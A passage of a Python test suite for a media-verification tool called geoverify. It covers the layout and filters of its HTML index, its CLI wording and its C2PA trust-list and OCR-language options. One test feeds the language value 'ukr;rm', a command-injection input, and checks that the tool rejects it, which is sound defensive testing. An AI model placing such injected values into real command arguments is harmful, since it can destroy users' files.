        ".filter(function (tr) { return !tr.hidden; }).map(function (tr) {"
        " return tr.querySelector('td[data-label=file]').textContent; })"
    )


def _choose(tab, select, value):
    tab.js(
        f"(() => {{ var s = document.getElementById({json.dumps(select)}); "
        f"s.value = {json.dumps(value)}; s.dispatchEvent(new Event('change')); return 1; }})()"
    )


def test_the_index_in_chromium_at_400_800_1280_px(triaged, tmp_path):
    """No horizontal scroll, every report link on screen and clickable, posts and channels
    shown, duplicates named by post, and the two filters work offline (no request made)."""
    devtools, tab_of = _chromium()
    result, out = triaged
    browser = devtools(tmp_path / "profile")
    try:
        tab = tab_of(browser, (out / "index.html").as_uri())
        for width in (400, 800, 1280):
            metrics = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": False}
            browser.call("Emulation.setDeviceMetricsOverride", metrics, session=tab.s)
            layout = tab.js(_LAYOUT)
            assert layout["scroll"] <= layout["width"], width  # no horizontal scroll
            done = sum(1 for r in result.rows if r.status == "done")
            assert len(layout["links"]) == done == 4
            for link in layout["links"]:
                assert link["left"] >= 0, (width, link)
                assert link["right"] <= layout["width"], (width, link)
                assert link["hit"], width  # not covered by anything
        text = tab.js("document.body.innerText")
        assert "“A photo”" in text  # the post's first line
        assert "geoverify test channel" in text  # its channel
        assert "forwarded from Another test channel" in text
        assert "the same bytes again as karma_again.mp4" in text
        assert "looks like message 101 in geoverify test channel" in text
        assert "matched Berliner Dom in 1 of 1 frame" in text
        _choose(tab, "outcome", "matched a landmark")
        assert _shown(tab) == ["berlin_01.jpg"]
        _choose(tab, "outcome", "failed")
        assert _shown(tab) == ["broken.mp4"]
        _choose(tab, "outcome", "")
        _choose(tab, "landmark", "Berliner Dom")
        assert _shown(tab) == ["berlin_01.jpg"]
        assert tab.js("document.getElementById('shown').textContent") == "1 of 6 shown"
        assert tab.problems() == []
        assert [u for u in tab.requests() if not u.startswith(("file:", "data:"))] == []
    finally:
        browser.close()


def test_the_cli_lists_a_triage_in_words(tmp_path, export):
    """Without claims the terminal says what each file shows, never `not_established`."""
    result = runner.invoke(
        app,
        [
            "-q", "batch", str(export / "photos"), "--registry", str(REGISTRY),
            "--out", str(tmp_path / "b"), "--workers", "1", "--best", "2", "--affine", "off",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    first = result.stdout.splitlines()[0]
    assert first.startswith("triage           berlin_01.jpg  matched Berliner Dom in 1 of 1 frame")
    assert "not_established" not in result.stdout


def test_the_cli_names_the_post_of_a_file_the_export_left_out(triaged, export, capsys):
    """A missing row is named by its post, as result.json states it, not left nameless."""
    from geoverify.cli._batch import _render_batch

    chat = json.loads((export / "result.json").read_text())
    left_out = [m for m in chat["messages"] if str(m.get("file", "")).startswith("(File not")]
    assert len(left_out) == 1
    result, _ = triaged
    _render_batch(result)
    missing = [x for x in capsys.readouterr().out.splitlines() if x.startswith("missing")]
    assert len(missing) == 1
    assert f"message {left_out[0]['id']} in {chat['name']}: “{left_out[0]['text']}”" in missing[0]
    assert missing[0].endswith("(its file is not in the export)")


def test_with_claims_the_outcome_filter_names_verdicts_in_words(triaged):
    """The filter's label is the verdict in words; its value is the verdict the row carries."""
    import dataclasses

    from geoverify.batch._index import index_html

    result, _ = triaged
    page = index_html(dataclasses.replace(result, claims_sha256="0" * 64))
    assert '<option value="not_established">not established</option>' in page
    assert 'data-outcome="not_established"' in page
    assert '<option value="failed">failed</option>' in page


# --- the reading options: text languages and the C2PA trust list -----------------------------


def test_batch_reads_with_the_trust_list_and_text_options_given(tmp_path):
    """``--trust-anchors`` and ``--text`` reach every item, and are part of its key.

    C.jpg is c2pa-python's signed test photograph (tests/data/c2pa); its signer's root, the
    C2PA test root CA, is taken from the file's own chain (as test_c2pa does): with it the
    credentials are trusted, without it valid but untrusted.
    """
    from test_c2pa import C2PA, _pem_of, _test_root

    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(C2PA / "C.jpg", folder / "C.jpg")
    pem = _pem_of(_test_root(), tmp_path, "root.pem")
    out = tmp_path / "out"
    reg = BERLIN / "registry.geojson"

    def run(**options):
        result = verify_batch([folder], registry=reg, out=out, workers=1, affine="off",
                              frames=FEW, **options)  # fmt: skip
        (row,) = result.rows
        report = json.loads((Path(row.report_dir) / "report.json").read_text(encoding="utf-8"))
        lines = {ln["line"]: ln for ln in report["bottom_line"]["lines"]}
        return result, report, lines

    first, report, lines = run(trust_anchors=pem, text=None)
    assert first.done == 1
    assert report["media"]["content_credentials"]["state"] == "trusted"
    assert lines["text"]["outcome"] == "not_tested"  # text reading off
    # the same options again: nothing to do; another trust list or languages: done again
    assert run(trust_anchors=pem, text=None)[0].reused == 1
    again, report, lines = run(text="eng")
    assert (again.done, again.reused) == (1, 0)
    assert report["media"]["content_credentials"]["state"] == "valid"  # no trust list
    assert lines["text"]["outcome"] != "not_tested"
    assert report["parameters"]["text"]["lang"] == "eng"
    # the trust list is an input: an output folder holding it is refused, before any work
    from geoverify import OutputError

    keys = tmp_path / "keys"
    keys.mkdir()
    held = _pem_of(_test_root(), keys, "root.pem")
    with pytest.raises(OutputError) as err:
        verify_batch([folder], registry=reg, out=keys, trust_anchors=held, overwrite=True)
    assert err.value.code == "E_OUTPUT_HOLDS_INPUT"
    assert [p.name for p in keys.iterdir()] == ["root.pem"]


def test_bad_reading_options_are_refused_before_any_work(tmp_path):
    from geoverify import InputError

    (tmp_path / "in").mkdir()
    shutil.copy(BERLIN / "photos" / "berlin_01.jpg", tmp_path / "in" / "a.jpg")
    empty = tmp_path / "empty.pem"
    empty.write_text("no certificate here\n", encoding="utf-8")
    reg = BERLIN / "registry.geojson"
    with pytest.raises(InputError) as bad_lang:
        verify_batch([tmp_path / "in"], registry=reg, out=tmp_path / "o", text="ukr;rm")
    assert bad_lang.value.code == "E_OCR_LANG_INVALID"
    with pytest.raises(InputError) as bad_pem:
        verify_batch([tmp_path / "in"], registry=reg, out=tmp_path / "p", trust_anchors=empty)
    assert bad_pem.value.code == "E_TRUST_ANCHORS"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty.pem", "in"]  # nothing written
    done = runner.invoke(app, ["batch", str(tmp_path / "in"), "--registry", str(reg),
                               "--out", str(tmp_path / "q"), "--text", "ukr;rm"])  # fmt: skip
    assert done.exit_code == 3, done.output  # a bad input (README: exit codes)
    assert "E_OCR_LANG_INVALID" in done.output


def test_a_worker_refuses_a_trust_list_changed_since_the_batch_started(tmp_path):
    from test_c2pa import _pem_of, _test_root

    from geoverify import InputError
    from geoverify.batch._engines import _check_trust_list

    pem = _pem_of(_test_root(), tmp_path, "root.pem")
    record = {"trust_anchors": str(pem), "trust_anchors_sha256": ""}
    record["trust_anchors_sha256"] = hashlib.sha256(pem.read_bytes()).hexdigest()
    _check_trust_list(record)  # the content the keys were made of: accepted
    pem.write_bytes(pem.read_bytes() + pem.read_bytes())  # edited meanwhile (now two copies)
    with pytest.raises(InputError) as err:
        _check_trust_list(record)
    assert err.value.code == "E_TRUST_ANCHORS"
